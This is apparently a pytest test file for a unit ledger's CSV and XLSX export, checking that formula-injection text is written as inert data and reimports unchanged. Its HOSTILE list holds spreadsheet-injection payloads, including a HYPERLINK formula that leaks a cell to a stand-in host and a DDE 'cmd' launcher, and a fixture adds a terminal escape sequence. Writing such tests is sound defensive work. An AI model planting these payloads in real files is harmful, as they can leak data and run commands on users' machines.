"""Exports a spreadsheet opens as data: no cell runs as a formula, no stored character is lost or
breaks the file, and whatever is exported imports back with "nothing changed".

The property test generates unit rows whose text cells mix formula starters (`= + - @`, tab, CR),
quotes, delimiters, OOXML-escape look-alikes (`_x0041_`), every C0 control character and DEL, bidi
and line-separator characters, noncharacters (U+FFFE, U+FFFF), CJK and emoji, with negative and
fractional coordinates; it stores them through the import action, exports CSV and XLSX, and
imports each export back.
"""

from __future__ import annotations

import csv
import gc
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import Engine, select
from sqlmodel import Session
from typer.testing import CliRunner, Result

from console.cli import app
from model import actions
from model.actions import FileRow, ImportSource
from model.columns import ImportKind
from model.db import ledger_url, open_ledger, write_session
from model.tables import Unit
from tests.cli.conftest import Run, json_out

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+86 138 0000 0001", "-2+3", "@SUM(A1:A9)",
           "=cmd|' /C calc'!A0", "'=1+1"]

TOKENS = ["=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "'", '"', ",", ";", "_x0041_", "_x005F_", "_x", "_",
          "港城大道测试点77号", "赵", "🚒", "\u202e", "\u2028", "\x85", "\ufffe", "\uffff", "\x7f", " ",
          *map(chr, range(1, 0x20)), "HYPERLINK(", "a", "1"]
texts = st.lists(st.sampled_from(TOKENS), max_size=12).map("".join) | st.text(
    st.characters(codec="utf-8", exclude_characters="\x00"), max_size=12)
"""Any text but NUL, which the ledger refuses on every backend (tests/model/test_actions.py)."""
required_texts = texts.filter(lambda text: text.strip() != "")
unit_rows = st.fixed_dictionaries({
    "code": required_texts, "name": required_texts, "kind": st.sampled_from(["fire", "公安", "health"]),
    "tier": st.integers(1, 3).map(str), "duty_phone": required_texts, "address": texts, "contact": texts,
    "lat": st.none() | st.floats(-90, 90), "lon": st.none() | st.floats(-180, 180),
})


def store(engine: Engine, rows: list[dict[str, object]]) -> None:
    """Rows stored as an import stores them (the input schema trims the ends, keeps the rest)."""
    file_rows = [FileRow(number, {name: "" if value is None else str(value) for name, value in row.items()})
                 for number, row in enumerate(rows, start=2)]
    with write_session(engine) as session:
        actions.import_rows(session=session, operator="值班员", kind=ImportKind.UNITS, rows=file_rows,
                            source=ImportSource("generated", "0" * 64, "jsonl"))


def stored(engine: Engine) -> dict[str, tuple[object, ...]]:
    with Session(engine) as session:
        return {unit.code: (unit.name, unit.kind, unit.tier, unit.duty_phone, unit.address, unit.contact,
                            unit.lat, unit.lon) for unit in session.execute(select(Unit)).scalars()}


def assert_reimports_unchanged(run: Run, path: Path) -> None:
    result = run("import", "units", str(path), "--json")
    assert result.exit_code == 0, result.stdout + result.stderr
    summary = json_out(result)
    assert (summary["inserted"], summary["updated"], summary["ledger_seq"]) == (0, 0, None), summary
    assert summary["unchanged"] == summary["rows"]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(unit_rows, min_size=1, max_size=6, unique_by=lambda row: str(row["code"]).strip()))
def test_every_export_reimports_with_nothing_changed(tmp_path: Path, fresh_ledger: Callable[[], Path | str],
                                                     rows: list[dict[str, object]]) -> None:
    """Each example on a fresh ledger of its own, so a failure shrinks to the rows that cause it."""
    folder = Path(tempfile.mkdtemp(dir=tmp_path))
    ledger = fresh_ledger()
    engine = open_ledger(ledger_url(ledger))
    runner = CliRunner()

    def run(*args: str) -> Result:
        return runner.invoke(app, ["--db", str(ledger), "--operator", "值班员", *args])

    try:
        store(engine, rows)
        before = stored(engine)
        for format in ("csv", "xlsx"):
            path = folder / f"units.{format}"
            exported = run("export", "units", "-o", str(path))
            assert exported.exit_code == 0, exported.stderr
            assert_reimports_unchanged(run, path)
        assert stored(engine) == before
    finally:
        engine.dispose()


@pytest.fixture
def hostile_units(engine: Engine) -> None:
    """Units whose text would run as formulas or act on a terminal, stored as they were typed."""
    store(engine, [{"code": f"H{number}", "name": text, "kind": "fire", "tier": "1", "duty_phone": text,
                    "address": text, "lat": "-38.5", "lon": "-117.25", "contact": "\x1b]0;pwned\x07" + text}
                   for number, text in enumerate(HOSTILE)])


@pytest.mark.usefixtures("hostile_units")
def test_csv_export_writes_formula_cells_as_text(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "units.csv"
    assert run("export", "units", "-o", str(path)).exit_code == 0
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    text_cells = [cell for cell in cells if not cell.lstrip("-").replace(".", "").isdigit()]
    assert not [cell for cell in text_cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" in cells
    assert "''=1+1" in cells and "'+86 138 0000 0001" in cells
    assert "-38.5" in cells
    assert_reimports_unchanged(run, path)


@pytest.mark.usefixtures("hostile_units")
def test_xlsx_export_has_no_formula_and_keeps_control_characters(run: Run, tmp_path: Path) -> None:
    path = tmp_path / "units.xlsx"
    result = run("export", "units", "-o", str(path))
    assert result.exit_code == 0, result.stdout + result.stderr
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    assert "_x001B_]0;pwned_x0007_" in sheet
    workbook = load_workbook(path, read_only=True)
    values = [value for row in workbook.worksheets[0].iter_rows(values_only=True) for value in row]
    workbook.close()
    assert HOSTILE[0] in values and -38.5 in values
    assert_reimports_unchanged(run, path)


def test_a_text_too_long_for_a_spreadsheet_cell_is_refused_not_cut(run: Run, engine: Engine, tmp_path: Path) -> None:
    store(engine, [{"code": "XF", "name": "消防", "kind": "fire", "tier": "1", "duty_phone": "119",
                    "address": "港" * 32_000 + "\x07" * 200, "contact": "", "lat": None, "lon": None}])
    result = run("export", "units", "-o", str(tmp_path / "units.xlsx"))
    assert result.exit_code == 1
    assert "record 1, address: 33400 characters do not fit in a spreadsheet cell" in result.stderr
    assert run("export", "units", "-o", str(tmp_path / "units.csv")).exit_code == 0
    assert_reimports_unchanged(run, tmp_path / "units.csv")


def test_a_refused_xlsx_export_leaves_no_sheet_writer_open(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The refusal is said once, where it happens: nothing fails later when the garbage collector runs."""
    from console.exporters import ExportRefused, write_xlsx

    ignored: list[str] = []
    monkeypatch.setattr(sys, "unraisablehook", lambda found: ignored.append(repr(found.exc_value)))
    with pytest.raises(ExportRefused, match="do not fit in a spreadsheet cell"):
        write_xlsx(iter([{"code": "XF", "address": "港" * 33_000}]), ["code", "address"], tmp_path / "units.xlsx")
    gc.collect()
    assert ignored == []
    assert not (tmp_path / "units.xlsx").exists()
